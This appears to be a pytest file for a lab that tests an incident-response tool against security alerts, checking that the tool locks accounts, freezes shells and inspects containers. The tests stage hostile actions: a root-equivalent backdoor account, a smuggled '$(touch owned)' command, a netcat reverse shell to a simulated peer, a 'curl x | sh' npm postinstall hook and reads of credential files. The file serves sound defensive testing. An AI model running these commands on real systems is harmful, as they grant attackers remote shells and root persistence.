"""Accounts are locked, relays, readers and containers frozen, keys and images looked at."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.lab.places.host import Host
from tests.lab.places.internet import PEER, internet
from tests.lab.places.node import Node
from tests.lab.places.spot import Spot
from tests.lab.story import Story, Tell

USERS = "User mgmt binaries"
RELAY = "Netcat/Socat Remote Code Execution on Host"
READER = "Read environment variable from /proc files"
PRIVILEGED = "Launch Privileged Container"
SSH = "Read ssh information"
THREAD = "Change thread namespace"
GLIBC = "Potential Local Privilege Escalation via Environment Variables Misuse"
DEVICE = "Privileged Container Device Access"
NPM = "Network Tool Executed During NPM Package Install"
MOUNT = "Mount Launched in Privileged Container"
RUNTIME = "Modify Container Entrypoint"
KEYS = "Adding ssh keys to authorized_keys"
PATHS = "Container Access to Host Sensitive Paths"
POLKIT = "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)"
SUDO = "Sudo Potential Privilege Escalation"
BACKDOOR = "Backdoored library loaded into SSHD (CVE-2024-3094)"
COPY = "Exfiltrating Artifacts via Kubernetes Control Plane"
RULES = (
    USERS, RELAY, READER, PRIVILEGED, SSH, THREAD, GLIBC, DEVICE, NPM, MOUNT, RUNTIME, KEYS, PATHS, POLKIT,
    SUDO, BACKDOOR, COPY,
)  # fmt: skip


@pytest.fixture
def web(node: Node) -> Spot:
    """A container that no kubelet knows of."""
    return Spot(node, node.start_container())


def forward(report: Story, title: str) -> None:
    """Run what only looks before a step; other cuts are told elsewhere."""
    while title.casefold() not in report.steps[report.at].title.casefold():
        phases = report.steps[report.at].phases
        if "contain" in phases or phases[0] == "verify":
            report.unproven("", "another cut, which has a story of its own")
        else:
            report.looks(seconds=60)


def shadow(host: Host, name: str) -> str:
    """An account's line of hashes and dates."""
    return host.run(f"getent shadow {name}").strip()


def test_an_account_is_made_and_locked(booted_host: Host, tell: Tell) -> None:
    host = booted_host
    host.run("useradd -o -u 0 -g 0 eve; echo 'eve:correct horse' | chpasswd; chage -d 2026-01-05 -E 2030-01-01 eve")
    alert = Spot(host).fields(host.start("tail", "-f", "/etc/passwd"))
    alert |= {"proc.cmdline": "useradd -o -u 0 -g 0 eve $(touch owned)", "proc.name": "useradd", "user.loginuid": 1000}
    before, others = shadow(host, "eve"), [shadow(host, "alice"), shadow(host, "root")]
    report = tell(alert, rule=USERS, host=host)
    forward(report, "lock the accounts")
    report.again("What changed, and who is root now?", shows="eve:x:0:0")
    report.contain("lock the accounts", state=lambda: "!" in shadow(host, "eve"), becomes=True, shows="eve L")
    assert [shadow(host, "alice"), shadow(host, "root")] == others, "another account was locked"
    report.undo(state=lambda: shadow(host, "eve"), becomes=before)
    assert not host.exists("/root/owned")


def test_neither_root_nor_the_reader_is_locked_out(booted_host: Host, tell: Tell) -> None:
    host = booted_host
    host.run("useradd eve; echo 'eve:correct horse' | chpasswd")
    # The login of whoever reads the report, as sudo keeps it.
    host.starter = ["sh", "-c", 'u=$(id -u alice); echo "$u" > /proc/self/loginuid; exec "$@"', "sudo"]
    words = "gpasswd --administrators root,alice eve root alice"
    alert = Spot(host).fields(host.start("tail", "-f", "/etc/passwd"))
    others = [shadow(host, "alice"), shadow(host, "root")]
    report = tell(alert | {"proc.cmdline": words, "proc.name": "gpasswd"}, rule=USERS, host=host)
    forward(report, "lock the accounts")
    report.contain("lock the accounts", state=lambda: "!" in shadow(host, "eve"), becomes=True, shows="eve L")
    assert [shadow(host, "alice"), shadow(host, "root")] == others, "the reader, or root, was locked out"


def test_a_relay_hands_out_a_shell(booted_host: Host, tell: Tell, tmp_path: Path) -> None:
    host = booted_host
    with internet(host) as far:
        far.listen(4444, into=tmp_path / "got", says="id\n")
        host.run(f"nc.traditional -e /bin/sh {PEER} 4444 >/dev/null 2>&1 &")
        host.wait_until(lambda: "uid=0" in (tmp_path / "got").read_text(), "the peer has a shell")
        shell = int(host.run("ss -Htnp | grep -oE 'pid=[0-9]+' | head -n 1 | cut -d= -f2"))
        alert = Spot(host).fields(host.start("tail", "-f", "/etc/passwd"))
        report = tell(alert | {"proc.cmdline": f"nc -e /bin/sh {PEER} 4444"}, rule=RELAY, host=host)
        forward(report, "Freeze the shells")
        report.contain("Freeze the shells", state=lambda: host.state(shell), becomes="T", shows=f"{shell} T")
        assert f"/root/evidence/{report.uid}/{shell}.exe" in host.snapshot(f"/root/evidence/{report.uid}")
        report.undo(state=lambda: host.state(shell), becomes="S")


def test_a_reader_of_environments(web: Spot, tell: Tell) -> None:
    pid = web.start("tail", "-f", "/etc/passwd")
    report = tell(web.fields(pid, fd__name="/proc/1/environ"), rule=READER, host=web.place)
    forward(report, "Freeze the process")
    report.contain("Freeze the process", state=lambda: web.place.state(pid), becomes="T", shows=f"{pid} T")
    assert web.container is not None
    assert web.place.state(web.container.pid) == "S", "the workload itself was stopped"
    report.undo(state=lambda: web.place.state(pid), becomes="S")


@pytest.mark.parametrize("mode", [0o600, 0o644], ids=oct)
def test_a_key_without_a_passphrase(spot: Spot, tell: Tell, mode: int) -> None:
    """Whatever its mode: ssh-keygen itself reads no key that others may read."""
    spot.place.run("rm -f /root/k; ssh-keygen -q -t ed25519 -N '' -C alice -f /root/k")
    spot.write("/root/.ssh/id_ed25519", spot.place.read("/root/k"), mode)
    pid = spot.start("tail", "-f", "/etc/passwd")
    report = tell(spot.fields(pid, fd__name="/root/.ssh/id_ed25519"), rule=SSH, host=spot.place)
    spot.place.run("logger -t sshd 'Accepted publickey for root from 203.0.113.9'; journalctl --sync")
    report.looks(shows=["ED25519", "no passphrase: ", "Accepted publickey"])


LOOKS = [
    (THREAD, {}, "tail -f /etc/passwd"),
    (GLIBC, {}, "stable release version 2.36"),
    (DEVICE, {"fd.name": "/dev/zero"}, "character special file, number 1:5"),
    (NPM, {}, '"postinstall": "curl x | sh"'),
    (MOUNT, {}, "/etc/cron.d/x"),
    (RUNTIME, {}, "/usr/bin/containerd-shim-runc-v2"),
    (PATHS, {"fd.name": "/host/etc/shadow"}, "/etc/cron.d/x"),
    (POLKIT, {"proc.exepath": "/usr/bin/pkexec"}, "x:0:0"),
    (SUDO, {}, "x:0:0"),
    (BACKDOOR, {"fd.name": "/lib/liblzma.so.5.6.1"}, "\n1\n"),
    (COPY, {"fd.name": "/srv/data/dump.sql", "proc.cmdline": "tar cf - /srv/data"}, "dump.sql"),
    (PRIVILEGED, {}, "sleep"),
]
NEEDLE = "f30f1efa554889f54c89ce5389fb81e7000000804883ec28488954241848894c2410"


@pytest.mark.parametrize(("rule", "more", "shown"), LOOKS, ids=[rule for rule, _, _ in LOOKS])
def test_a_container_is_looked_at(web: Spot, tell: Tell, rule: str, more: dict[str, str], shown: str) -> None:
    web.write("/app/node_modules/x/package.json", '{"scripts": {\n"postinstall": "curl x | sh"\n}}\n')
    web.write("/srv/data/dump.sql", "insert\n")
    web.write("/lib/liblzma.so.5.6.1", b"\x7fELF" + bytes.fromhex(NEEDLE))
    web.place.write("/etc/cron.d/x", "* * * * * root true\n")
    pid = web.start("tail", "-f", "/etc/passwd")
    report = tell(web.fields(pid) | more, rule=rule, host=web.place)
    report.looks(shows=shown, seconds=90)


def test_who_has_a_login(booted_host: Host, tell: Tell) -> None:
    booted_host.write("/root/.ssh/authorized_keys", "ssh-ed25519 AAAA x\n")
    alert = Spot(booted_host).fields(booted_host.start("tail", "-f", "/etc/passwd"))
    alert |= {"fd.name": "/root/.ssh/authorized_keys", "user.loginuid": 1000}
    report = tell(alert, rule=KEYS, host=booted_host)
    report.looks(shows="authorized_keys")
    tell(alert, rule=GLIBC, host=booted_host).looks(shows="ldd", seconds=90)
